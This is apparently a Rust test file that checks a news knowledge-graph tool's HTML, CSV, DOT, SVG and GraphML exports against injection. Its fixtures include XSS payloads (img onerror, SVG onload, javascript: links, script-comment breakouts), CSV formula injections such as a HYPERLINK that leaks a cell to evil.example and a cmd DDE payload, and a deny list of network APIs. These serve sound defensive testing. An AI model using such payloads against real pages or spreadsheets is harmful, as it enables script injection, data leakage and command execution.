//! Hostile text in names and articles against every export (issue 11,
//! "Injection"): no article can put markup or script into the HTML page, end
//! its data block, turn a CSV cell into a spreadsheet formula, or make a DOT,
//! SVG or GraphML file invalid with control characters.
//!
//! Each test builds the minimal fixture with one kind of hostile text, in the
//! curated data and in the article, and reads every export back.

use std::collections::BTreeMap;
use std::path::Path;

use newsgraph::export::{self, Engine, ExportError, ImageFormat, View};
use newsgraph::{pipeline, Dataset, KnowledgeGraph, Loaded};

const FIXTURE: &str = "tests/fixtures/minimal";

/// The minimal fixture with `replace` applied to its data file (each pair
/// must match) and `sentence` added to its article.
fn build(replace: &[(&str, &str)], sentence: &str) -> (tempfile::TempDir, KnowledgeGraph) {
    let mut data = std::fs::read_to_string(Path::new(FIXTURE).join("data.ron")).unwrap();
    for (from, to) in replace {
        assert!(data.contains(from), "the fixture has {from}");
        data = data.replace(from, to);
    }
    let article =
        std::fs::read_to_string(Path::new(FIXTURE).join("articles/duck-soup.txt")).unwrap();
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("articles")).unwrap();
    std::fs::write(dir.path().join("data.ron"), data).unwrap();
    std::fs::write(
        dir.path().join("articles/duck-soup.txt"),
        format!("{article}{sentence}\n"),
    )
    .unwrap();
    let loaded = Loaded::load(dir.path()).unwrap();
    let graph = pipeline::build_graph(loaded, &|| {}).unwrap().0;
    (dir, graph)
}

/// Graphviz's picture of the graph, or (without Graphviz) an SVG that quotes
/// every tooltip the way Graphviz does.
fn picture(graph: &KnowledgeGraph) -> String {
    let dot = export::to_dot(graph);
    match export::render(&dot, ImageFormat::Svg, Engine::Dot) {
        Ok(svg) => String::from_utf8(svg).unwrap(),
        Err(ExportError::GraphvizMissing) => {
            let mut svg = String::from("<svg xmlns=\"http://www.w3.org/2000/svg\">");
            for fact in graph.facts() {
                for evidence in &fact.fact.evidence {
                    let text = evidence.text.as_deref().unwrap_or_default();
                    let text = text
                        .replace('&', "&amp;")
                        .replace('<', "&lt;")
                        .replace('>', "&gt;");
                    svg.push_str(&format!("<g class=\"edge\"><title>{text}</title></g>"));
                }
            }
            svg + "</svg>"
        }
        Err(other) => panic!("{other}"),
    }
}

/// A start tag as an HTML tokenizer reads it: name and attribute names,
/// lower case.
#[derive(Debug)]
struct Tag {
    name: String,
    attributes: Vec<String>,
}

/// The start tags of a page, as a browser's tokenizer finds them: comments,
/// end tags and the text of raw-text elements (`script`, `style`, and
/// `title` outside SVG) are passed over.
fn start_tags(html: &str) -> Vec<Tag> {
    let lower = html.to_ascii_lowercase();
    let bytes = lower.as_bytes();
    let mut tags = Vec::new();
    let mut in_svg = 0usize;
    let mut at = 0;
    let skip_to = |from: usize, what: &str| {
        lower[from..]
            .find(what)
            .map_or(lower.len(), |i| from + i + what.len())
    };
    while let Some(i) = lower[at..].find('<') {
        at += i;
        let rest = &lower[at..];
        if rest.starts_with("<!--") {
            at = skip_to(at, "-->");
            continue;
        }
        if rest.starts_with("</svg") {
            in_svg = in_svg.saturating_sub(1);
        }
        if rest.starts_with("</") || rest.starts_with("<!") || rest.starts_with("<?") {
            at = skip_to(at, ">");
            continue;
        }
        if !bytes.get(at + 1).is_some_and(u8::is_ascii_alphabetic) {
            at += 1;
            continue;
        }
        // The tag name, then its attributes up to '>'.
        let mut j = at + 1;
        while j < bytes.len() && !b" \t\n\r\x0c/>".contains(&bytes[j]) {
            j += 1;
        }
        let name = lower[at + 1..j].to_string();
        let mut attributes = Vec::new();
        loop {
            while j < bytes.len() && b" \t\n\r\x0c/".contains(&bytes[j]) {
                j += 1;
            }
            if j >= bytes.len() || bytes[j] == b'>' {
                break;
            }
            let start = j;
            while j < bytes.len() && !b" \t\n\r\x0c/>=".contains(&bytes[j]) {
                j += 1;
            }
            attributes.push(lower[start..j].to_string());
            if bytes.get(j) == Some(&b'=') {
                j += 1;
                match bytes.get(j) {
                    Some(&quote) if quote == b'"' || quote == b'\'' => {
                        j += 1;
                        while j < bytes.len() && bytes[j] != quote {
                            j += 1;
                        }
                        j += 1;
                    }
                    _ => {
                        while j < bytes.len() && !b" \t\n\r\x0c>".contains(&bytes[j]) {
                            j += 1;
                        }
                    }
                }
            }
        }
        at = (j + 1).min(lower.len());
        if name == "svg" {
            in_svg += 1;
        }
        let raw_text_end = match name.as_str() {
            "script" => Some("</script"),
            "style" => Some("</style"),
            "title" if in_svg == 0 => Some("</title"),
            _ => None,
        };
        if let Some(end) = raw_text_end {
            let close = lower[at..].find(end).map_or(lower.len(), |i| at + i);
            // Inside a script, "<!--" changes where the element ends: this
            // reader only knows the simple case.
            assert!(
                !lower[at..close].contains("<!--"),
                "a <!-- in a {name} element: {}",
                &html[at..close]
            );
            at = close;
        }
        tags.push(Tag { name, attributes });
    }
    tags
}

/// The elements the page is made of. The graph is drawn by the page script
/// (Cytoscape.js on a canvas): no picture markup is in the page, so none of a
/// picture's text can be either.
const PAGE_ELEMENTS: &[&str] = &[
    "html", "head", "meta", "title", "style", "body", "header", "h1", "input", "ul", "details",
    "summary", "fieldset", "legend", "div", "label", "span", "main", "aside", "p", "script",
    "button", "select", "option", "section", "output",
];

/// The vendored Cytoscape.js, as the page must carry it.
const LIBRARY: &str = include_str!("../src/export/page/vendor/cytoscape.min.js");

/// Asserts that the page is made of its own markup only: known elements,
/// three scripts (the data, the vendored library and the page's), no
/// event-handler attribute.
fn assert_no_injected_markup(html: &str) {
    let tags = start_tags(html);
    for tag in &tags {
        assert!(
            PAGE_ELEMENTS.contains(&tag.name.as_str()),
            "injected <{}> in the page",
            tag.name
        );
        for attribute in &tag.attributes {
            assert!(
                !attribute.starts_with("on"),
                "injected {attribute} on <{}>",
                tag.name
            );
        }
    }
    let scripts = tags.iter().filter(|t| t.name == "script").count();
    assert_eq!(
        scripts, 3,
        "the data block, the library and the page script only"
    );
}

/// The text of the page's JSON data element, as the browser reads it: up to
/// the first `</script`.
fn data_block(html: &str) -> &str {
    let open = "<script type=\"application/json\" id=\"graph-data\">";
    let start = html.find(open).expect("the data element") + open.len();
    let end = start + html[start..].find("</script").expect("its end");
    &html[start..end]
}

/// The page's data, parsed as the page script does (`JSON.parse`).
fn page_data(html: &str) -> serde_json::Value {
    serde_json::from_str(data_block(html)).expect("the data block is JSON")
}

/// The page without its data block and the vendored library: the markup,
/// style and script that are the page's own.
fn own_part(html: &str) -> String {
    assert_eq!(
        html.matches(LIBRARY.trim_end()).count(),
        1,
        "the library, once"
    );
    html.replace(data_block(html), "")
        .replace(LIBRARY.trim_end(), "")
}

const HOSTILE_SENTENCE: &str =
    "Rufus T. Firefly met Ambassador Trentino __DATA__<img src=x onerror=alert(1)> __SVG__ __TITLE__ on Friday.";

#[test]
fn data_placeholder_in_an_article_cannot_inject_markup_into_the_page() {
    let evidence = "Sylvania pledged __DATA__<img src=x onerror=alert(1)> USD 20 million.";
    let (_dir, graph) = build(
        &[(
            "evidence: \"Sylvania pledged USD 20 million.\"",
            &format!("evidence: \"{evidence}\""),
        )],
        HOSTILE_SENTENCE,
    );
    let view = View::all(&graph);
    let html = export::to_html(&view, &picture(&graph), "newsgraph");
    assert_no_injected_markup(&html);
    // The article's text is in the data block only, as JSON text.
    let own = own_part(&html);
    for text in ["__DATA__", "__SVG__", "onerror", "Sylvania pledged"] {
        assert!(!own.contains(text), "{text} outside the data block");
    }
    assert!(
        !own.contains("\"nodes\"") && !own.contains("\"edges\""),
        "no JSON spliced into the page"
    );
    // The data reaches the page script intact.
    let data = page_data(&html);
    let texts: Vec<&str> = data["edges"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|e| e["evidence"].as_array().unwrap())
        .filter_map(|e| e["text"].as_str())
        .collect();
    assert!(texts.contains(&evidence), "{texts:?}");

    // A hostile picture and title are made inert too: of the picture only
    // the numbers of its entities' positions reach the page.
    let svg = "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\">\
               <script>alert(2)</script><g id=\"n-x\" onclick=\"alert(3)\"><title>__DATA__</title>\
               <foreignObject><img src=\"x\" onerror=\"alert(4)\"/></foreignObject>\
               <a xlink:href=\"javascript:alert(5)\"><text>&lt;img src=x onerror=alert(6)&gt;</text></a>\
               <![CDATA[<img src=x onerror=alert(7)>]]><ellipse cx=\"1\" cy=\"2\" rx=\"3\" ry=\"4\"/></g>\
               <g id=\"n-rufus-firefly\" class=\"node\"><title>&lt;script&gt;alert(9)</title>\
               <ellipse cx=\"10\" cy=\"-20\" rx=\"8\" ry=\"4\"/><text>__DATA__&lt;img src=x onerror=alert(10)&gt;</text></g></svg>";
    let html = export::to_html(&view, svg, "<img src=x onerror=alert(8)> __SVG__");
    assert_no_injected_markup(&html);
    let own = own_part(&html);
    for text in ["javascript:", "<svg", "foreignObject", "__DATA__"] {
        assert!(!own.contains(text), "{text} from the picture in the page");
    }
    // alert(1) is in the article, so in the data block (as JSON text);
    // alert(8) is in the title, escaped; the picture's calls are nowhere.
    for n in [2, 3, 4, 5, 6, 7, 9, 10] {
        let call = format!("alert({n})");
        assert!(!html.contains(&call), "{call} from the picture in the page");
    }
    assert!(!own.contains("alert(1)"));
    assert_eq!(page_data(&html)["nodes"], data["nodes"]);
    assert_eq!(
        page_data(&html)["positions"],
        serde_json::json!({ "rufus-firefly": [10.0, -20.0, 16.0, 8.0] }),
        "positions of the view's entities only, as numbers"
    );
    assert!(html.contains("<title>&lt;img src=x onerror=alert(8)&gt; __SVG__</title>"));
}

#[test]
fn comment_and_script_in_an_entity_name_cannot_stop_the_page_script() {
    let name = "Ambassador <!--<script> Trentino </script><script>alert(1)</script>";
    let (_dir, graph) = build(
        &[(
            "name: \"Ambassador Trentino\"",
            &format!("name: \"{name}\", description: \"\u{2028}</SCRIPT \u{2029}<!-- -->\""),
        )],
        HOSTILE_SENTENCE,
    );
    let html = export::to_html(&View::all(&graph), &picture(&graph), "newsgraph");
    let block = data_block(&html);
    // With no '<' in the block, nothing in it can end the element, comment
    // it out or open a script (the HTML tokenizer's script data states).
    assert!(!block.contains('<'), "a '<' in the data block: {block}");
    assert!(!block.contains(['\u{2028}', '\u{2029}']));
    let data = page_data(&html);
    let names: Vec<&str> = data["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n["label"].as_str().unwrap())
        .collect();
    assert!(names.contains(&name), "{names:?}");
    // The library and the page script follow the data, whole.
    let after = &html[html.find(block).unwrap() + block.len()..];
    assert!(after.starts_with(&format!(
        "</script>\n<script>\n{}\n</script>\n<script>\n// newsgraph's page",
        LIBRARY.trim_end()
    )));
    assert!(after
        .trim_end()
        .ends_with("})();\n</script>\n</body>\n</html>"));
    assert_no_injected_markup(&html);
}

/// Whether a spreadsheet would read the cell as a formula: it starts with
/// `=`, `+`, `-`, `@`, a tab or a carriage return (after spaces or line
/// breaks), and is not a plain number.
fn is_formula(cell: &str) -> bool {
    let start = cell.trim_start_matches([' ', '\n']);
    let number = start.parse::<f64>().is_ok()
        && start
            .trim_start_matches(['+', '-'])
            .starts_with(|c: char| c.is_ascii_digit() || c == '.');
    cell.starts_with(['\t', '\r']) || (start.starts_with(['=', '+', '-', '@']) && !number)
}

fn csv_rows(bytes: &[u8]) -> Vec<BTreeMap<String, String>> {
    let mut reader = csv::Reader::from_reader(bytes);
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    reader
        .records()
        .map(|r| {
            header
                .iter()
                .cloned()
                .zip(r.unwrap().iter().map(String::from))
                .collect()
        })
        .collect()
}

#[test]
fn formula_cells_are_neutralised_in_csv() {
    let (_dir, graph) = build(
        &[
            (
                "name: \"Ambassador Trentino\"",
                "name: \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"x\\\")\", description: \"-2+3\"",
            ),
            ("name: \"Gloria Teasdale\"", "name: \"@SUM(1+1)\""),
            ("name: \"Sylvania\"", "name: \"\\tSylvania\""),
            ("name: \"Freedonia City\"", "name: \"\\rFreedonia City\""),
            ("name: \"Rufus T. Firefly\"", "name: \" \\n=1+1 Firefly\""),
            (
                "evidence: \"Sylvania pledged USD 20 million.\"",
                "evidence: \"=cmd|' /C calc'!A0\"",
            ),
        ],
        "",
    );
    let files: BTreeMap<&str, Vec<u8>> = export::to_csv_files(&View::all(&graph))
        .unwrap()
        .into_iter()
        .collect();
    assert_eq!(files.len(), 4);
    for (file, bytes) in &files {
        for row in csv_rows(bytes) {
            for (column, cell) in &row {
                assert!(!is_formula(cell), "{file}, {column}: {cell:?}");
            }
        }
    }
    let nodes = csv_rows(&files["nodes.csv"]);
    let trentino = nodes.iter().find(|n| n["id:ID"] == "trentino").unwrap();
    assert_eq!(
        trentino["name"],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
    );
    assert_eq!(trentino["description"], "'-2+3");
    let names: Vec<&str> = nodes.iter().map(|n| n["name"].as_str()).collect();
    for expected in [
        "'@SUM(1+1)",
        "'\tSylvania",
        "'\rFreedonia City",
        "' \n=1+1 Firefly",
    ] {
        assert!(names.contains(&expected), "{expected:?} in {names:?}");
    }
    let edges = csv_rows(&files["edges.csv"]);
    let funded = edges.iter().find(|e| e[":TYPE"] == "FUNDED").unwrap();
    assert_eq!(funded["evidence"], "'=cmd|' /C calc'!A0");
    // Numbers stay numbers.
    assert_eq!(funded["amount:double"], "20000000");
    let gephi = csv_rows(&files["gephi-nodes.csv"]);
    assert!(gephi.iter().any(|n| n["Label"] == "'@SUM(1+1)"));
}

/// Characters the exports must not write raw: XML 1.0 forbids them (C0
/// controls other than tab, line feed and carriage return, U+FFFE, U+FFFF),
/// or they are controls a reader acts on (DEL, C1).
fn is_control(c: char) -> bool {
    (c.is_control() && !matches!(c, '\t' | '\n' | '\r')) || matches!(c, '\u{FFFE}' | '\u{FFFF}')
}

/// Asserts that `xml` is well-formed and has no character XML 1.0 forbids,
/// raw or as a character reference.
fn assert_valid_xml(what: &str, xml: &str) {
    if let Some(c) = xml.chars().find(|&c| is_control(c)) {
        panic!("{what}: raw {c:?}");
    }
    let mut reader = quick_xml::Reader::from_str(xml);
    loop {
        match reader.read_event() {
            Ok(quick_xml::events::Event::Eof) => break,
            Ok(quick_xml::events::Event::GeneralRef(r)) => {
                if let Some(c) = r
                    .resolve_char_ref()
                    .unwrap_or_else(|e| panic!("{what}: {e}"))
                {
                    assert!(!is_control(c), "{what}: reference to {c:?}");
                }
            }
            Ok(quick_xml::events::Event::Start(e) | quick_xml::events::Event::Empty(e)) => {
                for attribute in e.attributes() {
                    let attribute = attribute.unwrap_or_else(|e| panic!("{what}: {e}"));
                    let value = attribute
                        .unescape_value()
                        .unwrap_or_else(|e| panic!("{what}: {e}"));
                    assert!(!value.chars().any(is_control), "{what}: {value:?}");
                }
            }
            Ok(_) => {}
            Err(e) => panic!(
                "{what}: not well-formed at {}: {e}",
                reader.buffer_position()
            ),
        }
    }
}

const CONTROLS: &str =
    "\\u{1}\\u{7}\\u{8}\\u{b}\\u{c}\\u{1b}[31m\\u{7f}\\u{85}\\u{9b}\\u{fffe}\\u{ffff}";

#[test]
fn control_characters_in_a_name_are_dropped_or_escaped_in_every_text_export() {
    let name = format!("Ambassador {CONTROLS} &#1; Trentino");
    let (_dir, graph) = build(
        &[
            (
                "name: \"Ambassador Trentino\"",
                &format!("name: \"{name}\""),
            ),
            (
                "evidence: \"Sylvania pledged USD 20 million.\"",
                &format!("evidence: \"Sylvania{CONTROLS} pledged &#2; USD 20 million.\""),
            ),
        ],
        "Rufus T. Firefly met Ambassador Trentino\u{1}\u{1b} on Friday.",
    );
    let name = "Ambassador \u{1}\u{7}\u{8}\u{b}\u{c}\u{1b}[31m\u{7f}\u{85}\u{9b}\u{fffe}\u{ffff} &#1; Trentino";
    assert_eq!(graph.dataset().entities["trentino"].name, name);
    let view = View::all(&graph);

    // DOT: no control character, and no `&#1;` for Graphviz to decode.
    let dot = export::to_dot(&graph);
    assert!(!dot.chars().any(is_control), "DOT: {dot}");
    assert!(
        dot.contains("label=\"Ambassador [31m &amp;#1; Trentino\""),
        "{dot}"
    );
    graphviz_rust::parse(&dot).expect("the DOT parses");

    // SVG: well-formed XML, the name shown as written.
    if let Ok(svg) = export::render(&dot, ImageFormat::Svg, Engine::Dot) {
        let svg = String::from_utf8(svg).unwrap();
        assert_valid_xml("SVG", &svg);
        assert!(svg.contains("Ambassador [31m &amp;#1; Trentino"), "{svg}");
    }

    // GraphML: well-formed, no forbidden character even escaped.
    let graphml = export::view_to_graphml(&view);
    assert_valid_xml("GraphML", &graphml);
    assert!(graphml.contains("Ambassador [31m &amp;#1; Trentino"));

    // JSON: every character kept, the controls escaped.
    let json = export::view_to_json(&view);
    assert!(!json.chars().any(is_control), "{json}");
    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert!(value["elements"]["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .any(|n| n["data"]["label"] == name));

    // CSV: controls dropped.
    for (file, bytes) in export::to_csv_files(&view).unwrap() {
        let text = String::from_utf8(bytes).unwrap();
        assert!(!text.chars().any(is_control), "{file}: {text}");
        if file == "nodes.csv" {
            assert!(text.contains("Ambassador [31m &#1; Trentino"), "{text}");
        }
    }

    // HTML: controls only as JSON escapes; no picture markup to carry them.
    let html = export::to_html(&view, &picture(&graph), "newsgraph");
    let outside_data = html.replace(data_block(&html), "");
    assert!(!outside_data.chars().any(is_control));
    assert!(!data_block(&html)
        .chars()
        .any(|c| c.is_control() || is_control(c)));
    assert!(!html.contains("<svg"), "the page draws on a canvas");
    assert!(page_data(&html)["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .any(|n| n["label"] == name));
}

#[test]
fn control_characters_in_an_id_keep_graphml_well_formed() {
    // Ids are slugs when loaded from files; a library user can set any.
    let mut dataset = Dataset::load(FIXTURE).unwrap();
    let mut entity = dataset.entities["freedonia-city"].clone();
    entity.id = "odd\u{1}\u{b}\u{7f}id".into();
    entity.name = "Odd\u{0} place".into();
    dataset.entities.insert(entity.id.clone(), entity);
    let graph = KnowledgeGraph::build(dataset);
    let graphml = export::to_graphml(&graph);
    assert_valid_xml("GraphML", &graphml);
    assert!(graphml.contains("<node id=\"oddid\">"));
    let dot = export::to_dot(&graph);
    assert!(!dot.chars().any(is_control));
}

#[test]
fn the_vendored_library_loads_nothing_and_is_carried_unchanged() {
    // The version the README of page/vendor/ names.
    assert!(LIBRARY.contains("cf.version=\"3.35.0\""));
    assert!(LIBRARY.starts_with("/**\n * Copyright (c) 2016-2026, The Cytoscape Consortium."));
    for reach in [
        "fetch(",
        "XMLHttpRequest",
        "import(",
        "importScripts",
        "Worker(",
        "WebSocket",
        "sendBeacon",
        // The library can load an image (`.src=`) only for a
        // `background-image` style, which the page never sets
        // (`PAGE_PROPERTIES` in src/export/html.rs).
        "src=\"",
        "<script",
        "</script",
        "<!--",
        "document.write",
        "innerHTML",
    ] {
        assert!(!LIBRARY.contains(reach), "the library uses {reach}");
    }
    let (_dir, graph) = build(&[], "");
    let html = export::to_html(&View::all(&graph), "", "newsgraph");
    assert_eq!(html.matches(LIBRARY.trim_end()).count(), 1);
    assert_no_injected_markup(&html);
}
